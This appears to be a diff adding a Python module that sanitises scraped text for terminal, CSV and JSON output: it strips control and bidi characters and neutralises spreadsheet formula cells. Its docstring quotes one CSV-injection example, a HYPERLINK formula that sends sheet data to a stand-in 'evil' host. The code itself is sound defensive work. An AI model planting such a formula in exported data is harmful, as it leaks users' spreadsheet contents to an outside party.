@@ -1,0 +1,68 @@
+"""What scraped text must not do on its way out: drive a terminal, or run in a spreadsheet.
+
+Titles, authors and text come from sites we do not control, so they may carry escape
+sequences (``ESC]0;…BEL`` retitles the window, ``ESC[2J`` clears it, ``ESC]8;;`` makes
+links), C1 controls (U+009B is a one-character CSI to many terminals) and bidi overrides
+that make text read differently from what it is (U+202E, "Trojan Source"). A terminal
+gets none of them: table, ``show`` text, and CSV when stdout is a terminal. Tab and
+newline stay.
+
+A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, through
+some importers, tab or CR) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks
+the sheet. CSV follows OWASP's rule (CSV injection): such a text cell gets a leading
+``'``, which spreadsheets hide and do not run. Numbers are left alone (a negative score is
+not a formula). ``--raw`` turns the rule off for pipelines that need the values as
+archived. JSON is data and stays as archived, but ``json.dumps(ensure_ascii=False)``
+writes C1 and bidi characters literally, so ``json_escape`` spells them ``\\u009b``: the
+same string to any JSON reader, inert on a terminal.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator, Mapping
+
+# C0 controls but tab and newline, DEL, C1 (U+0080-U+009F), bidi embeddings/overrides
+# (U+202A-U+202E) and isolates (U+2066-U+2069).
+_TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What json.dumps(ensure_ascii=False) leaves literal but a terminal may act on.
+_JSON_UNSAFE = re.compile("[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def for_terminal(value: object) -> str:
+    """``value`` as text a terminal only prints: its control and bidi characters removed."""
+    return _TERMINAL_UNSAFE.sub("", "" if value is None else str(value))
+
+
+def for_spreadsheet(value: object) -> object:
+    """A text cell a spreadsheet would run as a formula, with OWASP's leading ``'``."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_row(row: Mapping[str, object], *, terminal: bool, raw: bool = False) -> dict[str, object]:
+    """One CSV row made safe for where it goes: ``terminal`` strips what a terminal would
+    run (always, even with ``raw``), and unless ``raw`` the spreadsheet rule applies."""
+    safe: dict[str, object] = {}
+    for key, value in row.items():
+        cell = for_terminal(value) if terminal and isinstance(value, str) else value
+        safe[key] = cell if raw else for_spreadsheet(cell)
+    return safe
+
+
+def csv_rows(
+    rows: Iterable[Mapping[str, object]], *, terminal: bool, raw: bool = False
+) -> Iterator[dict[str, object]]:
+    """``csv_row`` for each row, lazily (exports stream)."""
+    return (csv_row(row, terminal=terminal, raw=raw) for row in rows)
+
+
+def json_escape(dumped: str) -> str:
+    """JSON text from ``json.dumps`` with C1, DEL and bidi characters as ``\\uXXXX`` escapes.
+
+    Lossless: outside strings JSON text is ASCII, and inside one an escape is the same
+    character, so the parsed data is unchanged.
+    """
+    return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", dumped)
